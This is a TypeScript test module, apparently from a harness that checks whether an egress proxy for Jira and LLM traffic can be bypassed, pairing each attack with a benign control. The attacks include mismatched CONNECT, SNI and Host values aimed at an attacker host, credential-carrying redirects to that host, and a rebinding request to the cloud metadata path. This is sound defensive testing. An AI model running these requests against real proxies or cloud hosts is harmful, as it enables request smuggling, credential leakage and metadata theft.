import type { Attempt, Brief, InsideRow } from '../brief.js'
import { attempt, inTurn, type ForwardResult } from './lib/attempt.mjs'
import { exchange, get, getByTls, openTcp, openTls, openTunnel } from './lib/http.mjs'
import { askJira } from './lib/controls.mjs'

export const rows: Readonly<Record<string, InsideRow>> = {
  'host-mismatch': { attack: nameDifferentHosts, control: useTunnel },
  redirect: { attack: followRedirects, control: askEcho },
  rebinding: { attack: rebind, control: askAssets },
  impostor: { attack: askImpostor, control: askJira },
  'plain-http': { attack: askWithoutTls, control: askJira },
}

/** CONNECT target, SNI and Host; null for a step that is skipped. */
type Names = readonly [connect: string | null, sni: string | null, host: string]

async function nameDifferentHosts({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  const { jira, llm, attacker, tunnel } = names
  const path = `/rest/api/2/myself?attack=${marker}`
  const combinations: Names[] = [
    [null, jira, attacker],
    [null, jira, llm],
    [null, attacker, jira],
    [null, null, jira],
    [jira, jira, attacker],
    [jira, attacker, jira],
    [jira, attacker, attacker],
    [jira, llm, llm],
    [jira, llm, jira],
    [jira, null, jira],
    [attacker, jira, jira],
    [tunnel, attacker, attacker],
    [tunnel, jira, jira],
    [tunnel, null, tunnel],
  ]
  const go = async ([connect, sni, host]: Names): Promise<ForwardResult> => {
    const socket =
      connect === null ? await openTcp(listeners.https) : await openTunnel(listeners.proxy, `${connect}:443`)
    return exchange(await openTls(socket, sni), get(host, path))
  }
  return inTurn([
    ...combinations.map(
      (one) => () => attempt(`CONNECT ${one[0] ?? '-'}, SNI ${one[1] ?? '-'}, Host ${one[2]}`, () => go(one)),
    ),
    () =>
      attempt('CONNECT with another Host', async () => {
        const socket = await openTunnel(listeners.proxy, `${jira}:443`, `${attacker}:443`)
        return exchange(await openTls(socket, jira), get(jira, path))
      }),
    () =>
      attempt('absolute form with another Host', async () =>
        exchange(await openTcp(listeners.proxy), get(attacker, `https://${jira}${path}`)),
      ),
    () =>
      attempt('absolute form inside TLS', () =>
        getByTls(listeners.https, jira, `https://${attacker}${path}`),
      ),
    () =>
      attempt('TLS into the plain listener', async () =>
        exchange(await openTls(await openTcp(listeners.http), jira), get(jira, path)),
      ),
  ])
}

/** Follows redirects like a careless client: to any host, with its credentials. */
async function followRedirects({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  const queries: Record<string, string> = {
    https: `to=https://${names.attacker}/`,
    http: `to=http://${names.attacker}/`,
    'https, the credential in its query': `carry=1&to=https://${names.attacker}/`,
    'another service': `to=https://${names.llm}/v1/messages`,
  }
  return inTurn(
    Object.entries(queries).map(
      ([what, query]) =>
        () =>
          attempt(`redirect to ${what}`, async () => {
            const path = `/redirect?attack=${marker}&${query}`
            const { bytes = Buffer.alloc(0) } = await getByTls(listeners.https, names.echo, path)
            const location = /^location: (.*)$/im.exec(bytes.toString('latin1'))?.[1]?.trim() ?? ''
            if (!URL.canParse(location)) return { reached: false, said: 'no redirect', bytes }
            const next = await follow(listeners, location)
            return { ...next, bytes: Buffer.concat([bytes, next.bytes ?? Buffer.alloc(0)]) }
          }),
    ),
  )
}

async function follow(listeners: Brief['listeners'], location: string): Promise<ForwardResult> {
  const { protocol, host, pathname, search } = new URL(location)
  if (protocol === 'https:') return getByTls(listeners.https, host, pathname + search)
  return exchange(await openTcp(listeners.http), get(host, pathname + search))
}

async function rebind({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('a wildcard name that resolves to the metadata service', () =>
      getByTls(listeners.https, names.metadata, `/latest/meta-data/?attack=${marker}`),
    ),
  ]
}

async function askImpostor({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('GET at a service whose name leads to the attacker', () =>
      getByTls(listeners.https, names.impostor, `/?attack=${marker}`),
    ),
  ]
}

async function askWithoutTls({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  const path = `/rest/api/2/myself?attack=${marker}`
  return inTurn([
    () =>
      attempt('transparent listener, port 80', async () =>
        exchange(await openTcp(listeners.http), get(names.jira, path)),
      ),
    () =>
      attempt('forward proxy, absolute form', async () =>
        exchange(await openTcp(listeners.proxy), get(names.jira, `http://${names.jira}${path}`)),
      ),
    () =>
      attempt('inside CONNECT', async () =>
        exchange(await openTunnel(listeners.proxy, `${names.jira}:443`), get(names.jira, path)),
      ),
  ])
}

async function useTunnel({ listeners, names, ca }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt('CONNECT, SNI and Host of the tunnel agree', async () => {
      const socket = await openTunnel(listeners.proxy, `${names.tunnel}:443`)
      // The service's own certificate, verified end to end: no interception.
      const secured = await openTls(socket, names.tunnel, { ca })
      return exchange(secured, get(names.tunnel, `/body?control=${marker}`))
    }),
  ]
}

async function askEcho({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  return [await attempt('GET /body', () => getByTls(listeners.https, names.echo, `/body?control=${marker}`))]
}

async function askAssets({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
  return [
    await attempt(`GET https://${names.assets}/`, () =>
      getByTls(listeners.https, names.assets, `/?control=${marker}`),
    ),
  ]
}
